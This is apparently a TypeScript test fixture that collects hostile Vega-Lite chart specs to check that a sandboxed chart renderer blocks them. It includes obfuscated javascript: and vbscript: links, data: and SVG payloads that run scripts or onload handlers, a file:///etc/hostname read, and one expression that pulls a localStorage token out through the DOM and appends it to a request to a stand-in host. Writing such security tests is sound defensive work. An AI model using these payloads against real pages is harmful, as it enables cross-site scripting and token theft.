import { n, q, type Spec } from '../samples.ts';
import { areas, bars, ELSEWHERE, encoding, type Hostile, type HostileSpecs, marked } from './bars.ts';

const RUN = 'void(window.breached=1)';

/** Where a mark must not lead. */
const links = {
  'a script': `javascript:${RUN}`,
  'a script, in capitals': `JavaScript:${RUN}`,
  'a script, after a space': ` javascript:${RUN}`,
  'a script, with a line end in its name': `java\nscript:${RUN}`,
  'a script, with a tab in its name': `java\tscript:${RUN}`,
  'a script, after a control character': `\u0001javascript:${RUN}`,
  'an old script': `vbscript:${RUN}`,
  'a document of its own': `data:text/html,<script>parent.breached=1</script>`,
  'a file': 'file:///etc/hostname',
  'a blob': 'blob:null/0-0-0-0-0',
  'a source': 'view-source:https://elsewhere.example/',
  'nothing that is an address': 'https://',
};

/** A link by a property of its mark, and one by a field, in turn. */
const leading = (address: string, n: number): Hostile =>
  n % 2
    ? marked({ href: address })
    : bars({
        transform: [{ calculate: JSON.stringify(address), as: 'to' }],
        encoding: { ...encoding, href: { field: 'to', type: 'nominal' } },
      });

const picture = (url: unknown, more: Spec = {}): Hostile =>
  bars({ mark: { type: 'image', width: 40, height: 40, url, ...more } });

const svg = (inside: string): string =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`)}`;

/** Pictures that must not be asked for, or may not do what they say. */
const pictures: HostileSpecs = {
  'a picture from elsewhere': picture(`${ELSEWHERE}i.png`),
  'a picture from elsewhere, without a scheme': picture(ELSEWHERE.replace('https:', '')),
  'a picture from elsewhere, with backslashes': picture('\\\\elsewhere.example\\i.png'),
  'a picture from elsewhere, with a name before it': picture('https://localhost@elsewhere.example/i.png'),
  'a picture from elsewhere, with white space': picture(` \t${ELSEWHERE}i.png`),
  'a picture of the page’s own site': picture('/logout'),
  'a picture that is a document': picture(`data:text/html,<script>parent.breached=1</script>`),
  'a picture that is XML': picture('data:application/xml,<a/>'),
  'a picture that is a script': picture(`javascript:${RUN}`),
  'a picture with a script': picture(svg(`<script>parent.breached=1;fetch('${ELSEWHERE}s')</script>`)),
  'a picture with a handler': picture(svg('<rect width="9" height="9" onload="parent.breached=1"/>')),
  'a picture with a picture from elsewhere': picture(svg(`<image href="${ELSEWHERE}i.png" width="9" height="9"/>`)),
  'a picture with a style from elsewhere': picture(svg(`<style>@import url(${ELSEWHERE}s.css);</style>`)),
  'a picture with a document': picture(
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}f"/></foreignObject>`,
    ),
  ),
  'a picture that is computed': picture({ expr: `'${ELSEWHERE}' + datum.area + '.png'` }),
  'a picture that is computed from what the page keeps': picture({
    expr: `'${ELSEWHERE}?' + item.mark.group.context.dataflow._el.ownerDocument.defaultView.localStorage.token`,
  }),
  'a picture by a field': bars({
    transform: [{ calculate: `'${ELSEWHERE}' + datum.area`, as: 'at' }],
    mark: 'image',
    encoding: { ...encoding, url: n('at') },
  }),
  'a picture that changes at a move': bars({
    params: [{ name: 'p', select: { type: 'point', on: 'pointermove' } }],
    mark: { type: 'image', width: 40, height: 40 },
    encoding: {
      ...encoding,
      url: { condition: { param: 'p', empty: false, value: `${ELSEWHERE}m.png` }, value: svg('') },
    },
  }),
  'a picture by config': bars({ mark: 'image', config: { image: { url: `${ELSEWHERE}i.png`, width: 9, height: 9 } } }),
  'a picture by a style': bars({
    mark: { type: 'image', style: 'taken' },
    config: { style: { taken: { url: `${ELSEWHERE}i.png`, width: 9, height: 9 } } },
  }),
  'a picture that has been loaded already': bars({
    mark: { type: 'image', style: 'taken', width: 9, height: 9 },
    config: { style: { taken: { image: { src: `${ELSEWHERE}i.png`, complete: true, width: 9, height: 9 } } } },
  }),
};

/** Data that must not be asked for. */
const data: HostileSpecs = Object.fromEntries(
  Object.entries({
    'data from elsewhere': { data: { url: `${ELSEWHERE}rows.json` } },
    'data from elsewhere, without a scheme': { data: { url: '//elsewhere.example/rows.csv' } },
    'data of the page’s own site': { data: { url: '/order' } },
    'data that are a script': { data: { url: `javascript:${RUN}` } },
    'data in an address': { data: { url: 'data:application/json,[{"area":"North","count":1}]' } },
    'data of a file': { data: { url: 'file:///etc/hostname' } },
    'data to look up elsewhere': {
      transform: [
        { lookup: 'area', from: { data: { url: `${ELSEWHERE}l.json` }, key: 'area', fields: ['population'] } },
      ],
    },
    'a map from elsewhere': {
      data: { url: `${ELSEWHERE}map.json`, format: { type: 'topojson', feature: 'constructor' } },
      mark: 'geoshape',
      encoding: {},
    },
    'data by a signal': { data: { url: { signal: `'${ELSEWHERE}' + 1` } } },
    'options of its embedding': {
      usermeta: {
        embedOptions: {
          actions: true,
          bind: '#host',
          editorUrl: ELSEWHERE,
          loader: { baseURL: ELSEWHERE, target: '_top' },
          patch: `${ELSEWHERE}patch.json`,
          config: `${ELSEWHERE}config.json`,
          defaultStyle: 'body { display: none }',
          sourceHeader: '<script>breached=1</script>',
        },
      },
    },
    'a schema from elsewhere': { $schema: `${ELSEWHERE}schema/vega-lite/v6.json` },
    'a version of Vega': { $schema: 'https://vega.github.io/schema/vega/v6.json', marks: [], signals: [] },
    'rows with addresses': {
      data: {
        values: [
          { area: `${ELSEWHERE}a.png`, count: 1 },
          { area: `javascript:${RUN}`, count: 2 },
        ],
      },
      encoding: { x: n('area'), y: q('count'), tooltip: n('area') },
    },
  } satisfies Record<string, Spec>).map(([name, more]) => [name, bars({ data: areas, ...more })]),
);

/** Specs that have something loaded, or lead somewhere they may not. */
export const addresses: HostileSpecs = {
  ...Object.fromEntries(Object.entries(links).map(([name, address], n) => [`a link to ${name}`, leading(address, n)])),
  ...pictures,
  ...data,
};
